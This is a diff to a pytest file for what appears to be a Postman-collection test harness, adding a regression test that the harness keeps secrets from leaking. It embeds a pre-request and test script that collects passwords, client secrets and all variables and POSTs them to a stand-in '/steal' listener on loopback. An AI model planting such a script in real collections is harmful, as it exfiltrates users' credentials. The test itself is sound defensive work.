@@ -90,6 +90,49 @@ def _env_file(path: Path, sim, cache: Path) -> None:
     ]) + "\n")
 
 
+EXFILTRATE_SCRIPT = """
+const seen = {password: pm.variables.get('password'), client_secret: pm.variables.get('client_secret'),
+              CRM_PASSWORD: pm.variables.get('CRM_PASSWORD'), FNO_CLIENT_SECRET: pm.variables.get('FNO_CLIENT_SECRET'),
+              replaced: pm.variables.replaceIn('{{password}} {{client_secret}} {{CRM_PASSWORD}}'),
+              all: pm.variables.toObject(), request: pm.request.toJSON()};
+pm.sendRequest({url: 'LISTENER/steal', method: 'POST', body: {mode: 'raw', raw: JSON.stringify(seen)}}, function () {});
+"""
+
+
+def exfiltrating_collection(listener: str) -> dict:
+    """A collection whose scripts try to send every secret they can reach to a foreign host."""
+    script = EXFILTRATE_SCRIPT.replace("LISTENER", listener).splitlines()
+    return {"info": {"name": "Exfiltrate", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
+            "item": [{"name": "Sign in and leak", "event": [
+                {"listen": "prerequest", "script": {"exec": script}},
+                {"listen": "test", "script": {"exec": [*script, "pm.test('signed in', () => pm.response.to.have.status(200));"]}}],
+                "request": {"method": "POST", "url": "{{token_url}}", "auth": {"type": "noauth"},
+                            "body": {"mode": "urlencoded", "urlencoded": [
+                                {"key": "grant_type", "value": "password"}, {"key": "client_id", "value": "{{client_id}}"},
+                                {"key": "resource", "value": "{{crm_url}}"}, {"key": "username", "value": "{{username}}"},
+                                {"key": "password", "value": "{{password}}"}]}}}]}
+
+
+@pytest.fixture
+def listener():
+    """A foreign host on loopback that keeps what it receives."""
+    from starlette.applications import Starlette
+    from starlette.responses import JSONResponse
+    from starlette.routing import Route
+
+    from tests.postman.helpers import LocalServer
+
+    received: list[str] = []
+
+    async def steal(request):
+        received.append((await request.body()).decode("utf-8", "replace"))
+        return JSONResponse({})
+
+    server = LocalServer(Starlette(routes=[Route("/steal", steal, methods=["POST"])])).start()
+    yield server.url, received
+    server.stop()
+
+
 def _harness(cwd: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess:
     return subprocess.run([sys.executable, "-m", "harness.cli", *args], cwd=cwd, text=True, capture_output=True,
                           env=env, timeout=540)
@@ -99,7 +142,7 @@ def _hits(text: str, needles: dict[str, str]) -> list[str]:
     return [label for label, needle in needles.items() if needle in text]
 
 
-def test_a_full_live_run_writes_no_canary_and_no_issued_token(tmp_path: Path, canary_sim):
+def test_a_full_live_run_writes_no_canary_and_no_issued_token(tmp_path: Path, canary_sim, listener):
     sim, issued = canary_sim
     secret_env = tmp_path / "secret"  # the one place the canaries are meant to be: not scanned
     secret_env.mkdir()
@@ -109,11 +152,14 @@ def test_a_full_live_run_writes_no_canary_and_no_issued_token(tmp_path: Path, ca
     extra = tmp_path / "extra" / "refresh-in-variables.postman_collection.json"
     extra.parent.mkdir()
     extra.write_text(json.dumps(refresh_collection()))
+    listener_url, stolen = listener
+    exfiltrate = tmp_path / "extra" / "exfiltrate.postman_collection.json"
+    exfiltrate.write_text(json.dumps(exfiltrating_collection(listener_url)))
     env = clean_env(tmp_path)
     env.pop("HARNESS_SCRIPT_SECRETS", None)
 
     main = _harness(tmp_path, env, "test", "--target", "live", "--env-file", str(env_file),
-                    "--collections", str(REPO / "collections"), str(extra), "--reports", "out",
+                    "--collections", str(REPO / "collections"), str(extra), str(exfiltrate), "--reports", "out",
                     "--cassette-dir", "cass", "--", "--log-level=DEBUG", f"--log-file={tmp_path / 'log' / 'debug.log'}",
                     "--log-file-level=DEBUG", "-rA", "-o", "junit_logging=all", "-p", "no:randomly")
     outputs = {"harness test": main.stdout + main.stderr}
@@ -129,7 +175,8 @@ def test_a_full_live_run_writes_no_canary_and_no_issued_token(tmp_path: Path, ca
         assert any(cls.startswith(f"collections.{path.name}") for cls, _ in ran), path.name
     assert {"Get token", "Use it"} <= {name for _, name in ran}  # the refresh-token collection
 
-    for collection in [*SHIPPED, extra]:
+    assert "Sign in and leak" in {name for _, name in ran}  # the exfiltrating collection ran under pytest
+    for collection in [*SHIPPED, extra, exfiltrate]:
         stem = collection.name.split(".")[0]
         run = _harness(tmp_path, env, "run", str(collection), "--target", "live", "--env-file", str(env_file),
                        "--export-environment", f"exports/{stem}.environment.json",
@@ -161,6 +208,10 @@ def test_a_full_live_run_writes_no_canary_and_no_issued_token(tmp_path: Path, ca
     assert cache.stat().st_mode & 0o077 == 0
     for name, text in outputs.items():
         leaks += [f"{name} stdout/stderr: {label}" for label in _hits(text, needles)]
+    # the scripts' attempts reached the foreign host (2 scripts x pytest and harness run), holding no secret
+    assert len(stolen) >= 4, stolen
+    leaks += [f"sent to the foreign host: {label}" for body in stolen for label in _hits(body, needles)]
+    assert "a host outside the collection's targets" in outputs["harness run exfiltrate.postman_collection.json"]
     assert leaks == [], "\n".join(leaks)
 
 
